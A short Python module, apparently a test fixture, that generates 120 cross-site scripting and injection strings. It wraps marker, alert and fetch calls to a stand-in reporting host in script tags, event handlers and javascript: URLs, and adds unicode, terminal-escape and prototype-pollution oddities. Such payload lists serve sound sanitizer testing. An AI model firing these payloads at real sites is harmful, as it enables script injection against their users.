"""120 texts that try to run something, to leave their place, or to vanish."""

from __future__ import annotations

__all__ = ["HIT", "PAYLOADS"]

HIT = "window.hit=1"
CALLS = (HIT, "alert(1)", "fetch('http://report.invalid/x')")
WRAPPINGS = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "<!--<script>{}",
    "--><script>{}</script>",
    '<img src=x onerror="{}">',
    '<svg onload="{}">',
    "<svg><script>{}</script></svg>",
    '<iframe srcdoc="<script>{}</script>">',
    '"><img src=x onerror={}>',
    "' onmouseover='{}",
    '" autofocus onfocus="{}',
    "javascript:{}",
    "</style><script>{}</script>",
    "</title><script>{}</script>",
    '<math><mi xlink:href="javascript:{}">',
    '<a href="javascript:{}">go</a>',
    "${{{}}}",
    "{{{{{}}}}}",
    "`${{{}}}`",
    "]]><script>{}</script>",
    "<template><script>{}</script></template>",
    '<noscript><p title="</noscript><img src=x onerror={}>">',
    '<details open ontoggle="{}">',
    "<input onfocus={} autofocus>",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "&lt;script&gt;{}&lt;/script&gt;",
    "<body onload={}>",
    '<object data="javascript:{}">',
    '<embed src="javascript:{}">',
    '<meta http-equiv=refresh content="0;javascript:{}">',
    '<base href="javascript:{}//">',
    '<link rel=stylesheet href="javascript:{}">',
    '<form action="javascript:{}"><button>x',
    '<video><source onerror="{}">',
)
ODD = (
    "\u202ereversed",
    "\u2066isolated\u2069",
    "\x1b[2J\x1b]0;title\x07",
    "nul\x00nul",
    "line\u2028para\u2029end",
    "zero\u200bwidth\u200d",
    "\ufeffmark",
    "tag\U000e0041s",
    "\r\rcarriage",
    "\x85next",
    "__proto__",
    "constructor",
    "</script",
    "<!--",
    "]]>",
    "\\",
    "'\"`",
    "a" * 4000,
)
PAYLOADS = [wrapping.format(call) for call in CALLS for wrapping in WRAPPINGS] + list(ODD)
